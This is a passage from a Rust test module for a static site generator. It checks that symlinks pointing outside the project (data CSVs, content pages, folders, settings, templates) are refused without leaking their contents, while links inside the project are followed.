            "units.csv",
            &format!("code,slug,name,name_en,level,parent\n01,tinh,{SECRET},P,province,\n001,huyen-a,A,A,district,01\n002,huyen-b,B,B,district,01\n"),
        );
        write(
            &dir,
            "values/huyen-a.csv",
            &format!("indicator,period,kind,value,source,note\nsubscribers,2024,actual,100,{SECRET},\nsubscribers,2025,target,200,x,\n"),
        );
        write(
            &dir,
            "values/huyen-b.csv",
            "indicator,period,kind,value,source,note\nsubscribers,2024,actual,100,x,\nsubscribers,2025,target,200,x,\n",
        );
        write(
            &dir,
            "narrative.md",
            &format!("+++\ntitle = \"x\"\n+++\n{SECRET}\n"),
        );
        write(&dir, "content/_index.md", &format!("{SECRET}\n"));
        write(&dir, "content/pages/about.md", &format!("{SECRET}\n"));
        write(&dir, "pages/about.md", &format!("{SECRET}\n"));
        write(&dir, "chiso.toml", &format!("title = \"{SECRET}\"\n"));
        write(
            &dir,
            "base.html",
            &format!("<!DOCTYPE html><html><body>{SECRET}</body></html>\n"),
        );
        dir
    }

    /// Replaces `rel` in the project with a link to `target`; `rel`'s old file or folder goes.
    fn link(root: &Path, rel: &str, target: &Path) {
        let path = root.join(rel);
        if path.is_dir() {
            fs::remove_dir_all(&path).unwrap();
        } else if path.exists() {
            fs::remove_file(&path).unwrap();
        }
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        symlink(target, &path).unwrap();
    }

    fn refused(rel: &str, target: &str) {
        let outer = tempfile::tempdir().unwrap();
        let out_dir = outside(outer.path());
        let root = outer.path().join("project");
        write_plain_project(&root);
        link(&root, rel, &out_dir.join(target));
        let output = assert_refused(outer.path(), &root, &[]);
        assert!(
            !output.contains(SECRET),
            "the message shows no text from outside:\n{output}"
        );
    }

    #[test]
    fn a_linked_units_file_is_refused() {
        refused("data/units.csv", "units.csv");
    }

    #[test]
    fn a_linked_values_file_is_refused() {
        refused("data/values/huyen-a.csv", "values/huyen-a.csv");
    }

    #[test]
    fn a_linked_narrative_is_refused() {
        refused("content/_index.md", "narrative.md");
        refused("content/huyen-a.md", "narrative.md");
    }

    #[test]
    fn a_linked_page_is_refused() {
        refused("content/pages/about.md", "narrative.md");
    }

    #[test]

    fn a_linked_values_folder_is_refused() {
        refused("data/values", "values");
    }

    #[test]

    fn a_linked_data_folder_is_refused() {
        let outer = tempfile::tempdir().unwrap();
        let out_dir = outside(outer.path());
        write(
            &out_dir,
            "data/units.csv",
            &fs::read_to_string(out_dir.join("units.csv")).unwrap(),
        );
        write_plain_project(&out_dir.join("whole"));
        let root = outer.path().join("project");
        write_plain_project(&root);
        link(&root, "data", &out_dir.join("whole/data"));
        assert_refused(outer.path(), &root, &[]);
    }

    #[test]

    fn a_linked_content_folder_is_refused() {
        refused("content", "content");
    }

    #[test]

    fn a_linked_pages_folder_is_refused() {
        refused("content/pages", "pages");
    }

    #[test]
    fn a_link_inside_the_project_is_followed() {
        let outer = tempfile::tempdir().unwrap();
        let root = outer.path().join("project");
        write_plain_project(&root);
        write(
            &root,
            "shared/intro.md",
            "+++\ntitle = \"Chung\"\n+++\nVăn bản dùng chung.\n",
        );
        link(&root, "content/huyen-a.md", &root.join("shared/intro.md"));
        let run = build(&root, &root.join("site"));
        assert!(run.success, "{}", run.output);
        assert!(fs::read_to_string(root.join("site/huyen-a/index.html"))
            .unwrap()
            .contains("Văn bản dùng chung."));
    }

    #[test]

    fn a_linked_settings_file_is_refused() {
        refused("chiso.toml", "chiso.toml");
    }

    #[test]

    fn a_linked_template_is_refused() {
        refused("templates/base.html", "base.html");
    }
}
